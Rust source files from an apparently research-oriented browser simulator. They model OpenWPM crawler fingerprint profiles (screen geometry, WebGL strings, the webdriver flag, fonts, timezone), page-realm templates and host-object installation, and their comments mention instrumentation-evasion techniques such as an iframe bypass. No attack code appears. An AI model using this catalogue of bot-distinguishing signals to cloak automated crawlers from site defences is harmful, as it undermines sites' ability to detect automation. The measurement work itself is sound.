pub use realm::PageTemplate;
pub use profile::{FingerprintProfile, Os, RunMode, WindowGeometry};
pub use template::{capture_template, diff, Template, TemplateDiff};
pub use webgl::WebGlProfile;
