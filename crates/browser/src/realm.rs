//! Shared page-realm templates.
//!
//! Building a page realm — interpreter bootstrap plus the full
//! `window`/`navigator`/`screen`/`document` host-object surface — costs far
//! more than most visits' script execution. Since [`install_window`]
//! captures no per-page state (native functions fetch the [`PageHost`]
//! through the interpreter at call time), a realm built once per profile
//! can be *cloned* for every page instead of rebuilt: [`PageTemplate`]
//! holds the installed realm, and [`PageTemplate::instantiate`] clones it,
//! attaches a fresh host, and re-points the per-page location data.
//!
//! Clones are observably identical to scratch-built pages: heap cloning
//! preserves object ids and property insertion order, and
//! [`Interp::clone_realm`] resets every piece of transient execution state
//! to the fresh-realm defaults. The browser manager treats templates as
//! part of the shared compiled-artifact layer and only uses them when the
//! process-wide compile cache is enabled, so ablation runs
//! (`--no-compile-cache`) exercise the rebuild-per-page path.

use std::cell::RefCell;
use std::rc::Rc;
use std::sync::Arc;

use jsengine::Interp;
use netsim::Url;

use crate::csp::CspPolicy;
use crate::hostobjects::{install_window, repoint_location};
use crate::page::{Page, PageHost, RealmWindow};
use crate::profile::FingerprintProfile;

/// A pre-built page realm for one fingerprint profile, cloned per visit.
pub struct PageTemplate {
    profile: Arc<FingerprintProfile>,
    interp: Interp,
    top: RealmWindow,
}

impl PageTemplate {
    /// Build the template realm: one interpreter bootstrap plus one
    /// host-object installation, paid once per (browser, profile).
    pub fn new(profile: impl Into<Arc<FingerprintProfile>>) -> PageTemplate {
        let profile = profile.into();
        let mut interp = Interp::new();
        // The build-time host only feeds the few values install_window
        // reads eagerly (profile geometry, fonts count, a placeholder
        // URL); it is dropped with this scope and never sees a script.
        let host = Rc::new(RefCell::new(PageHost::new(
            profile.clone(),
            Url::parse("https://template.invalid/").expect("placeholder URL parses"),
            None,
        )));
        interp.host = Some(host.clone());
        let top = install_window(&mut interp, &host, true);
        interp.host = None;
        PageTemplate { profile, interp, top }
    }

    /// The profile this template was built for.
    pub fn profile(&self) -> &Arc<FingerprintProfile> {
        &self.profile
    }

    /// Stamp out a page: clone the realm, attach a fresh [`PageHost`] for
    /// `url`/`csp`, and re-point the location data baked in at build time.
    pub fn instantiate(&self, url: Url, csp: Option<CspPolicy>) -> Page {
        let mut interp = self.interp.clone_realm();
        let host = Rc::new(RefCell::new(PageHost::new(self.profile.clone(), url.clone(), csp)));
        host.borrow_mut().set_top(self.top);
        interp.host = Some(host.clone());
        repoint_location(&mut interp, self.top, &url);
        Page { interp, host, top: self.top }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::{Os, RunMode};
    use crate::template::{capture_template, diff};

    fn profile() -> FingerprintProfile {
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular)
    }

    /// A template clone must be indistinguishable from a scratch-built
    /// page under the strongest observer we have: the DOM-traversal
    /// template attack, which walks every reachable property.
    #[test]
    fn clone_is_observably_identical_to_scratch_build() {
        let url = Url::parse("https://site042.example/shop").unwrap();
        let tpl = PageTemplate::new(profile());
        let mut cloned = tpl.instantiate(url.clone(), None);
        let mut scratch = Page::new(profile(), url, None);
        let d = diff(&capture_template(&mut scratch), &capture_template(&mut cloned));
        assert!(d.is_empty(), "clone deviates from scratch build: {d:?}");
    }

    /// The location data must track the instantiation URL, not the
    /// placeholder the template was built with.
    #[test]
    fn instantiate_repoints_location() {
        let tpl = PageTemplate::new(profile());
        let mut p = tpl.instantiate(Url::parse("https://a.example/x/y").unwrap(), None);
        let href = p.run_script(("location.href", "t")).unwrap();
        assert_eq!(href.as_str().unwrap(), "https://a.example/x/y");
        let dom = p.run_script(("document.domain", "t")).unwrap();
        assert_eq!(dom.as_str().unwrap(), "a.example");
        // A second page from the same template sees its own URL.
        let mut q = tpl.instantiate(Url::parse("https://b.example/").unwrap(), None);
        let href = q.run_script(("location.hostname", "t")).unwrap();
        assert_eq!(href.as_str().unwrap(), "b.example");
    }

    /// Pages stamped from one template must not share mutable state:
    /// globals, cookies and traffic are per-page.
    #[test]
    fn instantiated_pages_are_isolated() {
        let tpl = PageTemplate::new(profile());
        let url = |h: &str| Url::parse(&format!("https://{h}/")).unwrap();
        let mut a = tpl.instantiate(url("a.example"), None);
        let mut b = tpl.instantiate(url("b.example"), None);
        a.run_script(("window.flag = 'A'; document.cookie = 'id=a';", "t")).unwrap();
        let seen = b.run_script(("typeof window.flag", "t")).unwrap();
        assert_eq!(seen.as_str().unwrap(), "undefined");
        assert!(b.host.borrow().js_cookies.is_empty());
        a.run_script(("navigator.sendBeacon('/bd/v?bot=0');", "t")).unwrap();
        assert_eq!(a.traffic().len(), 1);
        assert!(b.traffic().is_empty());
        // Host-object behaviour still works in both clones.
        let ua = b.run_script(("navigator.userAgent", "t")).unwrap();
        assert!(ua.as_str().unwrap().contains("Firefox"));
    }

    /// Frames created inside a clone attach to that clone's host.
    #[test]
    fn frames_in_clones_stay_per_page() {
        let tpl = PageTemplate::new(profile());
        let mut a = tpl.instantiate(Url::parse("https://a.example/").unwrap(), None);
        let b = tpl.instantiate(Url::parse("https://b.example/").unwrap(), None);
        a.run_script((
            "document.body.appendChild(document.createElement('iframe'));",
            "t",
        ))
        .unwrap();
        assert_eq!(a.frames().len(), 1);
        assert!(b.frames().is_empty());
    }
}
