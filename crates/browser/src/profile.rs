//! Fingerprint profiles per OS × run mode.
//!
//! Encodes the observable client surface the paper measures in Tables 2–4:
//! screen geometry and window placement (Table 3), WebGL vendor strings and
//! `screen.availTop`/`availLeft` (Table 4), font availability, timezone and
//! `navigator` extras. An OpenWPM client profile differs from a stock
//! Firefox profile *only* in the ways the paper found — everything else is
//! shared, so fingerprint-surface diffs measure exactly those deviations.

use crate::webgl::WebGlProfile;

/// Host operating system.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Os {
    MacOs1015,
    Ubuntu1804,
}

impl Os {
    pub fn name(&self) -> &'static str {
        match self {
            Os::MacOs1015 => "macOS 10.15",
            Os::Ubuntu1804 => "Ubuntu 18.04",
        }
    }
}

/// OpenWPM run modes considered by the paper (Sec. 2, Table 2).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum RunMode {
    /// Full Firefox on a display.
    Regular,
    /// `--headless`.
    Headless,
    /// X virtual framebuffer (Ubuntu only).
    Xvfb,
    /// OpenWPM's Docker container (Ubuntu base).
    Docker,
}

impl RunMode {
    pub fn name(&self) -> &'static str {
        match self {
            RunMode::Regular => "Regular",
            RunMode::Headless => "Headless",
            RunMode::Xvfb => "Xvfb",
            RunMode::Docker => "Docker",
        }
    }

    /// Modes without a physical display (`availTop == 0` per Sec. 3.1.2).
    pub fn is_displayless(&self) -> bool {
        matches!(self, RunMode::Headless | RunMode::Xvfb | RunMode::Docker)
    }
}

/// Window geometry knobs. OpenWPM hard-codes these; the stealth settings
/// file of Sec. 6.1.5 makes them configurable.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct WindowGeometry {
    pub screen_width: u32,
    pub screen_height: u32,
    pub window_width: u32,
    pub window_height: u32,
    /// `window.screenX` / `screenY` of the first browser instance.
    pub screen_x: i32,
    pub screen_y: i32,
    /// Per-instance shift applied on Ubuntu regular mode (Table 3
    /// "Offset"); zero elsewhere.
    pub instance_offset: (i32, i32),
}

/// Everything a page script can observe about the client.
#[derive(Clone, Debug)]
pub struct FingerprintProfile {
    pub os: Os,
    pub mode: RunMode,
    /// WebDriver-controlled (Selenium sets `navigator.webdriver = true`).
    pub webdriver: bool,
    pub geometry: WindowGeometry,
    /// Index of this browser instance on the host (for the Ubuntu offset).
    pub instance: u32,
    /// `screen.availTop` / `availLeft` (Table 4).
    pub avail_top: i32,
    pub avail_left: i32,
    /// WebGL surface; `None` in headless mode (no implementation at all).
    pub webgl: Option<WebGlProfile>,
    /// `navigator.languages`.
    pub languages: Vec<&'static str>,
    /// Headless mode adds 43 extra properties to the language object
    /// (Sec. 3.1.2); this count realises them.
    pub extra_language_props: u32,
    /// Fonts `document.fonts.check` reports as installed.
    pub fonts: Vec<&'static str>,
    /// `Date.getTimezoneOffset()` minutes; Docker has no timezone info and
    /// reports 0 (Sec. 3.1.3).
    pub timezone_offset_min: i32,
    /// Firefox major version behind `navigator.userAgent`.
    pub firefox_version: u32,
    /// Human-readable client label for reports.
    pub label: String,
    /// Chromium-family client (exposes `window.chrome`, a classic
    /// cross-family distinguisher).
    pub is_chromium: bool,
    /// `navigator.hardwareConcurrency`.
    pub hardware_concurrency: u32,
}

/// Fonts present on a normal desktop install.
const DESKTOP_FONTS: &[&str] = &[
    "Arial",
    "Courier New",
    "Georgia",
    "Times New Roman",
    "Verdana",
    "Helvetica",
    "DejaVu Sans",
    "Liberation Serif",
];

/// The sole font inside OpenWPM's Docker image (Sec. 3.1.3).
const DOCKER_FONTS: &[&str] = &["Bitstream Vera Sans Mono"];

impl FingerprintProfile {
    /// The OpenWPM client for a given OS × mode (Tables 2–4), Firefox 90 /
    /// OpenWPM 0.17.0 vintage by default.
    pub fn openwpm(os: Os, mode: RunMode) -> FingerprintProfile {
        let geometry = match (os, mode) {
            (Os::MacOs1015, RunMode::Regular) => WindowGeometry {
                screen_width: 2560,
                screen_height: 1440,
                window_width: 1366,
                window_height: 683,
                screen_x: 23,
                screen_y: 4,
                instance_offset: (0, 0),
            },
            (Os::MacOs1015, RunMode::Headless) => WindowGeometry {
                screen_width: 1366,
                screen_height: 768,
                window_width: 1366,
                window_height: 683,
                screen_x: 4,
                screen_y: 4,
                instance_offset: (0, 0),
            },
            (Os::Ubuntu1804, RunMode::Regular) => WindowGeometry {
                screen_width: 2560,
                screen_height: 1440,
                window_width: 1366,
                window_height: 683,
                screen_x: 80,
                screen_y: 35,
                instance_offset: (8, 8),
            },
            (Os::Ubuntu1804, RunMode::Headless) | (Os::Ubuntu1804, RunMode::Xvfb) => {
                WindowGeometry {
                    screen_width: 1366,
                    screen_height: 768,
                    window_width: 1366,
                    window_height: 683,
                    screen_x: 0,
                    screen_y: 0,
                    instance_offset: (0, 0),
                }
            }
            (_, RunMode::Docker) | (Os::MacOs1015, RunMode::Xvfb) => WindowGeometry {
                // Docker runs the Ubuntu image regardless of host OS; Xvfb
                // on macOS is not an OpenWPM configuration but falls back to
                // the Docker-like geometry for completeness.
                screen_width: 2560,
                screen_height: 1440,
                window_width: 1366,
                window_height: 683,
                screen_x: 0,
                screen_y: 0,
                instance_offset: (0, 0),
            },
        };
        let (avail_top, avail_left) = match mode {
            RunMode::Regular => (72, 27),
            RunMode::Docker => (72, 27),
            RunMode::Headless | RunMode::Xvfb => (0, 0),
        };
        let webgl = match mode {
            RunMode::Headless => None,
            RunMode::Regular => Some(WebGlProfile::native(os)),
            RunMode::Xvfb => Some(WebGlProfile::llvmpipe_mesa(os)),
            RunMode::Docker => Some(WebGlProfile::llvmpipe_vmware()),
        };
        let fonts = if mode == RunMode::Docker { DOCKER_FONTS } else { DESKTOP_FONTS };
        FingerprintProfile {
            os,
            mode,
            webdriver: true,
            geometry,
            instance: 0,
            avail_top,
            avail_left,
            webgl,
            languages: vec!["en-US", "en"],
            extra_language_props: if mode == RunMode::Headless { 43 } else { 0 },
            fonts: fonts.to_vec(),
            timezone_offset_min: if mode == RunMode::Docker { 0 } else { -120 },
            firefox_version: 90,
            label: format!("OpenWPM/{}/{}", os.name(), mode.name()),
            is_chromium: false,
            hardware_concurrency: 8,
        }
    }

    /// A standalone Firefox of the same version on the same OS — the
    /// baseline the paper diffs against ("any differences must originate in
    /// the hosting environment, the framework, …", Sec. 3.1).
    pub fn stock_firefox(os: Os) -> FingerprintProfile {
        FingerprintProfile {
            os,
            mode: RunMode::Regular,
            webdriver: false,
            geometry: WindowGeometry {
                screen_width: 1920,
                screen_height: 1080,
                window_width: 1276,
                window_height: 854,
                screen_x: 212,
                screen_y: 118,
                instance_offset: (0, 0),
            },
            instance: 0,
            avail_top: 72,
            avail_left: 27,
            webgl: Some(WebGlProfile::native(os)),
            languages: vec!["en-US", "en"],
            extra_language_props: 0,
            fonts: DESKTOP_FONTS.to_vec(),
            timezone_offset_min: -120,
            firefox_version: 90,
            label: format!("Firefox/{}", os.name()),
            is_chromium: false,
            hardware_concurrency: 8,
        }
    }

    /// A consumer browser from a *different* engine family, for validating
    /// the fingerprint surface's distinctiveness (Sec. 3.3). Chromium-like
    /// surfaces share WebGL-style properties but differ in geometry and
    /// vendor strings.
    pub fn stock_chrome(os: Os) -> FingerprintProfile {
        let mut p = FingerprintProfile::stock_firefox(os);
        p.geometry.window_width = 1312;
        p.geometry.window_height = 902;
        p.geometry.screen_x = 64;
        p.geometry.screen_y = 30;
        p.webgl = Some(WebGlProfile::chrome(os));
        p.label = format!("Chrome/{}", os.name());
        p.is_chromium = true;
        p
    }

    /// Effective `screenX` for instance `i` (Ubuntu regular mode shifts each
    /// new window by the per-instance offset — Sec. 3.1.1).
    pub fn screen_x_for_instance(&self) -> i32 {
        self.geometry.screen_x + self.geometry.instance_offset.0 * self.instance as i32
    }

    pub fn screen_y_for_instance(&self) -> i32 {
        self.geometry.screen_y + self.geometry.instance_offset.1 * self.instance as i32
    }

    /// `navigator.userAgent`.
    pub fn user_agent(&self) -> String {
        let os_part = match self.os {
            Os::MacOs1015 => "Macintosh; Intel Mac OS X 10.15",
            Os::Ubuntu1804 => "X11; Ubuntu; Linux x86_64",
        };
        if self.is_chromium {
            return format!(
                "Mozilla/5.0 ({os_part}) AppleWebKit/537.36 (KHTML, like Gecko)                  Chrome/103.0.0.0 Safari/537.36"
            );
        }
        format!(
            "Mozilla/5.0 ({os_part}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
            v = self.firefox_version
        )
    }

    pub fn with_instance(mut self, instance: u32) -> FingerprintProfile {
        self.instance = instance;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table3_screen_geometry() {
        // Spot-check the exact values of Table 3.
        let mac_rm = FingerprintProfile::openwpm(Os::MacOs1015, RunMode::Regular);
        assert_eq!(mac_rm.geometry.screen_width, 2560);
        assert_eq!(mac_rm.geometry.window_width, 1366);
        assert_eq!(mac_rm.geometry.screen_x, 23);
        assert_eq!(mac_rm.geometry.screen_y, 4);

        let ubu_rm = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular);
        assert_eq!(ubu_rm.geometry.instance_offset, (8, 8));
        assert_eq!(ubu_rm.geometry.screen_x, 80);

        let ubu_hm = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Headless);
        assert_eq!(ubu_hm.geometry.screen_width, 1366);
        assert_eq!(ubu_hm.geometry.screen_x, 0);

        let docker = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Docker);
        assert_eq!(docker.geometry.screen_width, 2560);
        assert_eq!(docker.geometry.screen_x, 0);
    }

    #[test]
    fn table4_webgl_and_avail() {
        let rm = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular);
        assert!(rm.webgl.as_ref().unwrap().vendor.contains("AMD"));
        assert_eq!((rm.avail_left, rm.avail_top), (27, 72));

        let hm = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Headless);
        assert!(hm.webgl.is_none());
        assert_eq!((hm.avail_left, hm.avail_top), (0, 0));

        let xvfb = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Xvfb);
        assert!(xvfb.webgl.as_ref().unwrap().renderer.contains("llvmpipe"));
        assert_eq!((xvfb.avail_left, xvfb.avail_top), (0, 0));

        let docker = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Docker);
        assert!(docker.webgl.as_ref().unwrap().vendor.contains("VMware"));
    }

    #[test]
    fn docker_reduces_fonts_and_timezone() {
        let docker = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Docker);
        assert_eq!(docker.fonts, vec!["Bitstream Vera Sans Mono"]);
        assert_eq!(docker.timezone_offset_min, 0);
        let rm = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular);
        assert!(rm.fonts.len() > 1);
        assert_ne!(rm.timezone_offset_min, 0);
    }

    #[test]
    fn headless_adds_language_props() {
        assert_eq!(FingerprintProfile::openwpm(Os::MacOs1015, RunMode::Headless).extra_language_props, 43);
        assert_eq!(FingerprintProfile::openwpm(Os::MacOs1015, RunMode::Regular).extra_language_props, 0);
    }

    #[test]
    fn instance_offset_only_on_ubuntu_regular() {
        let p = FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular).with_instance(3);
        assert_eq!(p.screen_x_for_instance(), 80 + 24);
        assert_eq!(p.screen_y_for_instance(), 35 + 24);
        let m = FingerprintProfile::openwpm(Os::MacOs1015, RunMode::Regular).with_instance(3);
        assert_eq!(m.screen_x_for_instance(), 23);
    }

    #[test]
    fn stock_firefox_has_no_webdriver() {
        let p = FingerprintProfile::stock_firefox(Os::Ubuntu1804);
        assert!(!p.webdriver);
        assert!(p.user_agent().contains("Firefox/90.0"));
    }

    #[test]
    fn chrome_profile_has_chromium_user_agent() {
        let p = FingerprintProfile::stock_chrome(Os::Ubuntu1804);
        assert!(p.is_chromium);
        assert!(p.user_agent().contains("Chrome/"));
        assert!(!p.user_agent().contains("Firefox"));
    }
}
