//! Installation of the web-platform host objects into a realm.
//!
//! Builds the object graph a page script can reach: `window`, `navigator`,
//! `screen`, `document`, element constructors, `CustomEvent`, `Date`,
//! `fetch`, timers and the event-target machinery. Property values come
//! from the realm's [`crate::profile::FingerprintProfile`], so two realms with different
//! profiles differ *exactly* where the paper's Tables 2–4 say they do.
//!
//! Layout notes that matter for the experiments:
//!
//! * IDL attributes are **accessor properties on the prototypes** with
//!   native getters that validate their receiver (calling
//!   `Object.getOwnPropertyDescriptor(Navigator.prototype,
//!   'userAgent').get.call({})` throws, as in Firefox) — the tamper check
//!   the stealth instrumentation must survive (Sec. 6.1.1);
//! * prototype chains are deep enough to pollute: `document` →
//!   `Document.prototype` → `Node.prototype` → `EventTarget.prototype`,
//!   which is what makes the vanilla instrument's flattening observable
//!   (Fig. 2);
//! * the WebGL surface is materialised lazily on the first
//!   `canvas.getContext('webgl')` call (pages that never probe it don't pay
//!   for ~2,000 property insertions);
//! * `fetch` returns a synchronously-resolving thenable (a deliberate
//!   simplification — the corpus only chains `.then`).

use std::sync::Arc;

use jsengine::interp::ErrorKind;
use jsengine::{Interp, JsObject, ObjId, Property, Slot, Value};
use netsim::ResourceType;

use crate::page::{host_of, FrameContext, PageShared, RealmWindow};

/// Insert an enumerable data property.
fn data(it: &mut Interp, obj: ObjId, name: &str, v: Value) {
    it.heap.get_mut(obj).props.insert(Arc::from(name), Property::data(v));
}

/// Insert an enumerable native method (WebIDL operations are enumerable).
fn method(
    it: &mut Interp,
    obj: ObjId,
    name: &str,
    f: impl Fn(&mut Interp, Value, &[Value]) -> Result<Value, jsengine::Thrown> + 'static,
) {
    let func = it.alloc_native_fn(name, f);
    data(it, obj, name, Value::Obj(func));
}

/// Install an accessor property with a receiver-validating native getter.
/// `expected_class` is the internal class the receiver must have.
fn idl_getter(
    it: &mut Interp,
    proto: ObjId,
    name: &str,
    expected_class: &'static str,
    f: impl Fn(&mut Interp, ObjId) -> Result<Value, jsengine::Thrown> + 'static,
) {
    let name_owned: Arc<str> = Arc::from(name);
    let getter = it.alloc_native_fn(name, move |it, this, _args| {
        let name = &name_owned;
        let Some(id) = this.as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "'get' called on incompatible receiver"));
        };
        if it.heap.get(id).class.as_ref() != expected_class {
            return Err(it.throw_error(
                ErrorKind::Type,
                &format!("'get {name}' called on an object that does not implement interface {expected_class}"),
            ));
        }
        f(it, id)
    });
    it.heap
        .get_mut(proto)
        .props
        .insert(Arc::from(name), Property::accessor(Some(getter), None));
}

/// Expose an interface object (`window.Navigator` style): a non-constructible
/// function whose `prototype` is `proto`.
fn expose_interface(it: &mut Interp, window: ObjId, name: &str, proto: ObjId) {
    let ctor = it.alloc_native_fn(name, move |it, _this, _args| {
        Err(it.throw_error(ErrorKind::Type, "Illegal constructor"))
    });
    it.heap
        .get_mut(ctor)
        .props
        .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(proto)));
    it.heap
        .get_mut(proto)
        .props
        .insert(Arc::from("constructor"), Property::data_hidden(Value::Obj(ctor)));
    data(it, window, name, Value::Obj(ctor));
}

fn string_arg(it: &mut Interp, args: &[Value], i: usize) -> Result<Arc<str>, jsengine::Thrown> {
    let v = args.get(i).cloned().unwrap_or(Value::Undefined);
    it.to_string_value(&v)
}

/// Build one window realm. For `is_top` this dresses up the interpreter's
/// existing global object; otherwise a fresh `Window` object (an iframe's
/// `contentWindow`) with its own prototypes is created — crucially *without*
/// any instrumentation, which is what the iframe bypass exploits.
pub fn install_window(it: &mut Interp, host: &PageShared, is_top: bool) -> RealmWindow {
    let object_proto = it.intrinsics.object_proto;
    let window = if is_top {
        it.global
    } else {
        it.heap.alloc(JsObject::with_class(Some(object_proto), "Window"))
    };

    // ----- prototype chains -----
    let event_target_proto =
        it.heap.alloc(JsObject::with_class(Some(object_proto), "EventTargetPrototype"));
    let node_proto =
        it.heap.alloc(JsObject::with_class(Some(event_target_proto), "NodePrototype"));
    let element_proto =
        it.heap.alloc(JsObject::with_class(Some(node_proto), "ElementPrototype"));
    let html_element_proto =
        it.heap.alloc(JsObject::with_class(Some(element_proto), "HTMLElementPrototype"));
    let document_proto =
        it.heap.alloc(JsObject::with_class(Some(node_proto), "DocumentPrototype"));
    let navigator_proto =
        it.heap.alloc(JsObject::with_class(Some(object_proto), "NavigatorPrototype"));
    let screen_proto =
        it.heap.alloc(JsObject::with_class(Some(event_target_proto), "ScreenPrototype"));
    let canvas_proto = it
        .heap
        .alloc(JsObject::with_class(Some(html_element_proto), "HTMLCanvasElementPrototype"));

    install_event_target(it, event_target_proto);
    install_canvas_methods(it, canvas_proto);
    install_node_methods(it, node_proto);
    install_element_methods(it, element_proto);

    // ----- navigator -----
    let navigator = it.heap.alloc(JsObject::with_class(Some(navigator_proto), "Navigator"));
    {
        idl_getter(it, navigator_proto, "userAgent", "Navigator", move |it, _id| {
            let h = host_of(it);
            let ua = h.borrow().profile.user_agent();
            Ok(Value::str(ua))
        });
        idl_getter(it, navigator_proto, "webdriver", "Navigator", move |it, _id| {
            let h = host_of(it);
            let wd = h.borrow().profile.webdriver;
            Ok(Value::Bool(wd))
        });
        idl_getter(it, navigator_proto, "platform", "Navigator", move |it, _id| {
            let h = host_of(it);
            let os = h.borrow().profile.os;
            Ok(Value::str(match os {
                crate::profile::Os::MacOs1015 => "MacIntel",
                crate::profile::Os::Ubuntu1804 => "Linux x86_64",
            }))
        });
        idl_getter(it, navigator_proto, "language", "Navigator", move |it, _id| {
            let h = host_of(it);
            let lang = h.borrow().profile.languages.first().copied().unwrap_or("en-US");
            Ok(Value::str(lang))
        });
        idl_getter(it, navigator_proto, "languages", "Navigator", move |it, _id| {
            let (langs, extra) = {
                let h = host_of(it);
                let hb = h.borrow();
                (hb.profile.languages.clone(), hb.profile.extra_language_props)
            };
            let items: Vec<Value> = langs.iter().map(|l| Value::str(*l)).collect();
            let arr = it.alloc_array(items);
            // Headless mode decorates the language object with extra
            // properties (Sec. 3.1.2: "43 new properties").
            for i in 0..extra {
                data(it, arr, &format!("mozHeadlessLang{i:02}"), Value::Bool(true));
            }
            Ok(Value::Obj(arr))
        });
        idl_getter(it, navigator_proto, "plugins", "Navigator", move |it, _id| {
            Ok(Value::Obj(it.alloc_array(Vec::new())))
        });
        idl_getter(it, navigator_proto, "appVersion", "Navigator", move |_it, _id| {
            Ok(Value::str("5.0 (X11)"))
        });
        method(it, navigator_proto, "sendBeacon", move |it, _this, args| {
            let h = host_of(it);
            let url_s = string_arg(it, args, 0)?;
            let url = h.borrow().resolve_url(&url_s);
            let t = it.now_ms;
            h.borrow_mut().push_request(url, ResourceType::Beacon, t);
            Ok(Value::Bool(true))
        });
        method(it, navigator_proto, "javaEnabled", |_it, _this, _args| {
            Ok(Value::Bool(false))
        });
        idl_getter(it, navigator_proto, "hardwareConcurrency", "Navigator", move |it, _id| {
            let h = host_of(it);
            let hc = h.borrow().profile.hardware_concurrency;
            Ok(Value::Num(hc as f64))
        });
    }

    // ----- screen -----
    let screen = it.heap.alloc(JsObject::with_class(Some(screen_proto), "Screen"));
    {
        macro_rules! screen_getter {
            ($name:literal, $f:expr) => {{
                idl_getter(it, screen_proto, $name, "Screen", move |it, _id| {
                    let h = host_of(it);
                    let p = &h.borrow().profile;
                    #[allow(clippy::redundant_closure_call)]
                    Ok(Value::Num(($f)(p) as f64))
                });
            }};
        }
        screen_getter!("width", |p: &crate::profile::FingerprintProfile| p.geometry.screen_width as i64);
        screen_getter!("height", |p: &crate::profile::FingerprintProfile| p.geometry.screen_height as i64);
        screen_getter!("availWidth", |p: &crate::profile::FingerprintProfile| {
            p.geometry.screen_width as i64 - p.avail_left as i64
        });
        screen_getter!("availHeight", |p: &crate::profile::FingerprintProfile| {
            p.geometry.screen_height as i64 - p.avail_top as i64
        });
        screen_getter!("availTop", |p: &crate::profile::FingerprintProfile| p.avail_top as i64);
        screen_getter!("availLeft", |p: &crate::profile::FingerprintProfile| p.avail_left as i64);
        screen_getter!("colorDepth", |_p: &crate::profile::FingerprintProfile| 24i64);
        screen_getter!("pixelDepth", |_p: &crate::profile::FingerprintProfile| 24i64);
    }

    // ----- document -----
    let document = it.heap.alloc(JsObject::with_class(Some(document_proto), "HTMLDocument"));
    let body = make_element(it, html_element_proto, "body");
    let head = make_element(it, html_element_proto, "head");
    data(it, document, "readyState", Value::str("complete"));
    data(it, document, "body", Value::Obj(body));
    data(it, document, "head", Value::Obj(head));
    data(it, document, "title", Value::str(""));
    {
        let page_url = host.borrow().page_url.clone();
        let location = it.alloc_object_with_class("Location");
        data(it, location, "href", Value::str(page_url.to_string()));
        data(it, location, "host", Value::str(&page_url.host));
        data(it, location, "hostname", Value::str(&page_url.host));
        data(it, location, "pathname", Value::str(&page_url.path));
        data(it, location, "protocol", Value::str(format!("{}:", page_url.scheme)));
        data(it, document, "location", Value::Obj(location));
        data(it, window, "location", Value::Obj(location));
        data(it, document, "domain", Value::str(&page_url.host));
    }
    {
        // document.cookie accessor: reads/writes the JS-visible cookie
        // string; the cookie instrument observes stores host-side.
        let getter = it.alloc_native_fn("cookie", move |it, _this, _args| {
            let h = host_of(it);
            let joined = h.borrow().js_cookies.join("; ");
            Ok(Value::str(joined))
        });
        let setter = it.alloc_native_fn("cookie", move |it, _this, args| {
            let s = string_arg(it, args, 0)?;
            host_of(it).borrow_mut().js_cookies.push(s.to_string());
            Ok(Value::Undefined)
        });
        it.heap
            .get_mut(document_proto)
            .props
            .insert(Arc::from("cookie"), Property::accessor(Some(getter), Some(setter)));
    }
    {
        // document.fonts.check("12px FontName") — FontFaceSet.check.
        let fonts = it.alloc_object_with_class("FontFaceSet");
        method(it, fonts, "check", move |it, _this, args| {
            let spec = string_arg(it, args, 0)?;
            let name = spec.split_once(' ').map(|(_, n)| n).unwrap_or(&spec);
            let name = name.trim_matches(['"', '\''].as_ref());
            let h = host_of(it);
            let present = h.borrow().profile.fonts.contains(&name);
            Ok(Value::Bool(present))
        });
        let count = host.borrow().profile.fonts.len();
        data(it, fonts, "size", Value::Num(count as f64));
        data(it, document, "fonts", Value::Obj(fonts));
    }
    {
        let hep = html_element_proto;
        let cvp = canvas_proto;
        method(it, document_proto, "createElement", move |it, _this, args| {
            let tag = string_arg(it, args, 0)?;
            Ok(Value::Obj(make_element_with_canvas(it, hep, cvp, &tag)))
        });
        let body_id = body;
        method(it, document_proto, "getElementById", move |it, _this, args| {
            let id = string_arg(it, args, 0)?;
            let h = host_of(it);
            Ok(lookup_element(&h, &id).unwrap_or(Value::Obj(body_id)))
        });
        method(it, document_proto, "querySelector", move |it, _this, args| {
            let sel = string_arg(it, args, 0)?;
            let id = sel.trim_start_matches('#');
            // Pages in the simulation have no parsed static HTML; selector
            // misses fall back to <body> so verbatim PoC listings work.
            let h = host_of(it);
            Ok(lookup_element(&h, id).unwrap_or(Value::Obj(body_id)))
        });
        method(it, document_proto, "write", move |it, _this, args| {
            let html = string_arg(it, args, 0)?;
            if html.contains("<iframe") {
                let h = host_of(it);
                create_frame(it, &h, FrameContext::DocumentWrite);
            }
            Ok(Value::Undefined)
        });
    }

    // ----- window properties -----
    let frames_array = it.alloc_array(Vec::new());
    {
        let p = host.borrow().profile.clone();
        let chrome_h = if p.mode.is_displayless() { 0 } else { 74 };
        data(it, window, "innerWidth", Value::Num(p.geometry.window_width as f64));
        data(
            it,
            window,
            "innerHeight",
            Value::Num((p.geometry.window_height - chrome_h) as f64),
        );
        data(it, window, "outerWidth", Value::Num(p.geometry.window_width as f64));
        data(it, window, "outerHeight", Value::Num(p.geometry.window_height as f64));
        data(it, window, "screenX", Value::Num(p.screen_x_for_instance() as f64));
        data(it, window, "screenY", Value::Num(p.screen_y_for_instance() as f64));
        data(it, window, "devicePixelRatio", Value::Num(1.0));
        data(it, window, "name", Value::str(""));
    }
    data(it, window, "navigator", Value::Obj(navigator));
    data(it, window, "screen", Value::Obj(screen));
    data(it, window, "document", Value::Obj(document));
    data(it, window, "self", Value::Obj(window));
    data(it, window, "window", Value::Obj(window));
    data(it, window, "frames", Value::Obj(frames_array));
    {
        let top_id = if is_top { window } else { host.borrow().top_window().unwrap_or(window) };
        data(it, window, "top", Value::Obj(top_id));
        data(it, window, "parent", Value::Obj(top_id));
    }

    // Interface objects on the window, so page scripts (and the injected
    // instrumentation) can reach the prototypes by name.
    expose_interface(it, window, "Navigator", navigator_proto);
    expose_interface(it, window, "Screen", screen_proto);
    expose_interface(it, window, "Document", document_proto);
